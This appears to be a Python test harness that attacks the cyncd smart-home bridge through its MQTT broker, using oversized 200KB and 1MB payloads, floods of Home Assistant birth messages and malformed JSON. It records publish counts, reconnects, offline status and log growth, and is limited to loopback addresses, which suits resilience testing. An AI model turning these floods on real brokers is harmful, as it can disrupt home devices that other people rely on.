#!/usr/bin/env python3
"""Attacks on cyncd's MQTT side through the broker it uses, as any client allowed to publish
could make them; prints one JSON object with what each did. Python 3.11 standard library
only (a minimal MQTT 3.1.1 client); loopback brokers only.

    mqtt_flood.py --broker 127.0.0.1:1883 --http 127.0.0.1:8080 [--token-file F]

Reads cyncd's /metrics (open from loopback) for its publish and connect counters, and watches
`cync/bridge/availability` for an `offline`.
"""

import argparse
import json
import os
import socket
import struct
import threading
import time


def parse_addr(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def remaining(n):
    out = b""
    while True:
        byte = n % 128
        n //= 128
        out += bytes([byte | (0x80 if n else 0)])
        if not n:
            return out


def utf8(s):
    b = s.encode()
    return struct.pack(">H", len(b)) + b


class Client:
    """MQTT 3.1.1, QoS 0, enough for publishing and counting."""

    def __init__(self, addr, client_id):
        self.sock = socket.create_connection(addr, timeout=10)
        var = utf8("MQTT") + bytes([4, 2]) + struct.pack(">H", 60)
        payload = utf8(client_id)
        self.send(0x10, var + payload)
        self.read_packet()  # CONNACK
        self.messages = []
        self.lock = threading.Lock()

    def send(self, first, body):
        self.sock.sendall(bytes([first]) + remaining(len(body)) + body)

    def read_exact(self, n):
        data = b""
        while len(data) < n:
            chunk = self.sock.recv(n - len(data))
            if not chunk:
                raise ConnectionError("closed")
            data += chunk
        return data

    def read_packet(self):
        first = self.read_exact(1)[0]
        mult, n = 1, 0
        while True:
            b = self.read_exact(1)[0]
            n += (b & 0x7F) * mult
            mult *= 128
            if not b & 0x80:
                break
        return first, self.read_exact(n)

    def publish(self, topic, payload):
        self.send(0x30, utf8(topic) + payload)

    def subscribe(self, topic):
        self.send(0x82, struct.pack(">H", 1) + utf8(topic) + bytes([0]))

    def listen(self, stop):
        self.sock.settimeout(0.5)
        while not stop.is_set():
            try:
                first, body = self.read_packet()
            except socket.timeout:
                continue
            except OSError:
                return
            if first >> 4 == 3:
                (tlen,) = struct.unpack(">H", body[:2])
                topic = body[2 : 2 + tlen].decode(errors="replace")
                qos = (first >> 1) & 3
                payload = body[2 + tlen + (2 if qos else 0) :]
                with self.lock:
                    self.messages.append((time.monotonic(), topic, payload))


def metrics(http, auth):
    s = socket.create_connection(http, timeout=10)
    s.sendall(f"GET /metrics HTTP/1.1\r\nHost: {http[0]}\r\n{auth}Connection: close\r\n\r\n".encode())
    data = b""
    while True:
        c = s.recv(65536)
        if not c:
            break
        data += c
    s.close()
    out = {}
    for line in data.decode(errors="replace").splitlines():
        if line.startswith("cyncd_mqtt_") and " " in line and "{" not in line:
            name, value = line.rsplit(" ", 1)
            out[name] = float(value)
    return out


def settle(http, auth, quiet=2.0, limit=60.0):
    """Waits until cyncd's publish counter stops moving for `quiet` s."""
    start = time.monotonic()
    last = metrics(http, auth).get("cyncd_mqtt_published_total", 0)
    still = time.monotonic()
    while time.monotonic() - start < limit:
        time.sleep(0.25)
        now = metrics(http, auth).get("cyncd_mqtt_published_total", 0)
        if now != last:
            last, still = now, time.monotonic()
        elif time.monotonic() - still >= quiet:
            break
    return last


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--broker", required=True)
    ap.add_argument("--http", required=True)
    ap.add_argument("--token-file")
    ap.add_argument("--set-topic", default="cync/default_1/set")
    ap.add_argument("--log", help="cyncd's log file, to count the bytes each attack logs")
    args = ap.parse_args()
    broker, http = parse_addr(args.broker), parse_addr(args.http)
    assert broker[0].startswith("127.") and http[0].startswith("127."), "loopback only"
    auth = ""
    if args.token_file:
        with open(args.token_file) as f:
            auth = f"Authorization: Bearer {f.readline().strip()}\r\n"
    watcher = Client(broker, "attack-watch")
    watcher.subscribe("cync/bridge/availability")
    watcher.subscribe("homeassistant/#")
    stop = threading.Event()
    t = threading.Thread(target=watcher.listen, args=(stop,), daemon=True)
    t.start()
    attacker = Client(broker, "attack-pub")
    settle(http, auth)
    out = {}

    def run(name, action):
        before = metrics(http, auth)
        with watcher.lock:
            seen = len(watcher.messages)
        log0 = os.path.getsize(args.log) if args.log else 0
        action()
        time.sleep(1.0)
        total = settle(http, auth)
        after = metrics(http, auth)
        with watcher.lock:
            new = watcher.messages[seen:]
        out[name] = {
            "cyncd_publishes": int(total - before.get("cyncd_mqtt_published_total", 0)),
            "reconnects": int(after.get("cyncd_mqtt_connects_total", 0) - before.get("cyncd_mqtt_connects_total", 0)),
            "offline_published": sum(1 for _, tp, p in new if tp == "cync/bridge/availability" and p == b"offline"),
            "discovery_messages_seen": sum(1 for _, tp, _ in new if tp.startswith("homeassistant/") and tp.endswith("/config")),
        }
        if args.log:
            out[name]["log_bytes"] = os.path.getsize(args.log) - log0

    big = lambda n: b'{"state":"ON","x":"' + b"A" * n + b'"}'
    run("publish_200KB_on_set", lambda: attacker.publish(args.set_topic, big(200_000)))
    run("publish_1MB_on_set", lambda: attacker.publish(args.set_topic, big(1_000_000)))
    run("ten_200KB_publishes", lambda: [attacker.publish(args.set_topic, big(200_000)) for _ in range(10)])
    run("one_HA_birth", lambda: attacker.publish("homeassistant/status", b"online"))
    run("fifty_HA_births", lambda: [attacker.publish("homeassistant/status", b"online") for _ in range(50)])
    run("invalid_3KB_payload", lambda: attacker.publish(args.set_topic, b"{" * 3_000))
    run("invalid_100KB_payload", lambda: attacker.publish(args.set_topic, b"{" * 100_000))
    stop.set()
    print(json.dumps(out, indent=1))


if __name__ == "__main__":
    main()
